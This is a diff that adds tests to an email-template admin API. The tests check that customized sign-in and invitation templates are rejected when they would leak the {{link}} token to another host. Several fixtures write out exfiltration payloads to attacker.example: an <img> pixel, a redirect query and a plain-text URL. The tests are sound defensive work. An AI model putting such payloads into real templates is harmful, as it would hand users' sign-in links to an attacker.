@@ -119,6 +119,50 @@ describe('Herald’s own email templates under /admin/system-templates', () => {
     expect((await http().get(MAGIC).set(writer.auth)).body.customized).toBe(false);
   });
 
+  it('when a replacement would send the link to another host (image, URL query, text body, subject), then 422 names the part and emails keep the built-in', async () => {
+    const leaks = [
+      {
+        path: MAGIC,
+        send: { body: '<p>Hi</p><img src="https://attacker.example/p.gif?t={{link}}"><a href="{{link}}">in</a>' },
+        loc: 'body',
+      },
+      { path: INVITATION, send: { body: '<a href="https://attacker.example/go?next={{link}}">Accept</a>' }, loc: 'body' },
+      {
+        path: MAGIC,
+        send: { body: '<a href="{{link}}">in</a>', text_body: 'Open https://attacker.example/?t={{link}}' },
+        loc: 'text_body',
+      },
+      { path: MAGIC, send: { subject: 'Your link {{link}}', body: '<a href="{{link}}">in</a>' }, loc: 'subject' },
+    ];
+    for (const { path, send, loc } of leaks) {
+      const put = await http().put(path).set(writer.auth).send(send);
+      expect(put.status).toBe(422);
+      expect(put.body.detail).toEqual([{ loc: ['body', loc], msg: expect.stringContaining('{{link}}'), type: 'value_error' }]);
+    }
+    const img = await http().put(MAGIC).set(writer.auth).send(leaks[0].send);
+    expect(img.body.detail[0].msg).toContain('src attribute of <img>');
+    const draft = await http().post(`${MAGIC}/preview`).set(writer.auth).send(leaks[0].send);
+    expect(draft.status).toBe(422);
+
+    // Nothing was stored: the sign-in link goes out in the built-in email, to no other host.
+    const { mail } = await nextMagicLinkEmail();
+    expect(mail.parsed.html).toContain('Sign in to Herald');
+    expect(mail.parsed.html).not.toContain('attacker.example');
+  });
+
+  it('when a replacement puts the link as an <a> href and as text of its own, then it is accepted, as the built-in ones are', async () => {
+    const legit = await http().put(MAGIC).set(writer.auth).send({
+      body: "<p><a href='{{ link }}' style='color:#333'>Sign in</a></p><p>Or paste: {{link}}</p>",
+      text_body: 'Sign in: <{{link}}>.',
+    });
+    expect(legit.status).toBe(200);
+    for (const path of [MAGIC, INVITATION]) {
+      const builtIn = (await http().get(path).set(writer.auth)).body.built_in;
+      const put = await http().put(path).set(writer.auth).send(builtIn);
+      expect(put.status).toBe(200);
+    }
+  });
+
   it('when the invitation template is replaced, then the next invitation email uses it and its link still accepts', async () => {
     const put = await http()
       .put(INVITATION)
